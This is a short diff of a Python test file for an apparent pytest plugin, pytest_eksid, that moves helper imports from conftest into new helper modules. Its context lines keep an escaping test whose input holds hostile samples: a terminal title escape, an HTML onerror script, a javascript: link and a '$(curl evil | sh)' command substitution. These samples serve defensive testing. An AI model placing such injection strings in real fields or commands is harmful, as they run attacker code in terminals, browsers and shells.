@@ -17,7 +17,7 @@ from pytest_eksid.escape import command_iam_name, command_labels, csv_cell, mark
 from pytest_eksid.profile import load_profile
 from pytest_eksid.redact import redact_json
 from pytest_eksid.report import FAMILIES, PASS, RunFacts
-from tests.conftest import REPO
+from tests.helpers import REPO
 
 DEMO = load_profile("demo", REPO)
 TITLE = "\x1b]0;owned\x07"  # OSC: sets the terminal's title
@@ -162,7 +162,8 @@ def test_a_run_shows_hostile_profile_text_escaped_everywhere(tmp_path):
     """End to end: a profile owner with HTML, a javascript: link and a shell pipe (the profile loader already
     refuses control characters there), on a ServiceAccount that lacks its owner label, so the owner reaches
     the failure, its next command, the summary, JUnit and the Markdown inventory."""
-    from tests.conftest import demo_data, run_pytest, write_profile
+    from tests.helpers.profiles import demo_data, write_profile
+    from tests.helpers.runs import run_pytest
 
     data = demo_data()
     data["workloads"][0]["owner"] = "<img src=x onerror=alert(1)>[x](javascript:alert(1)) $(curl evil | sh)"
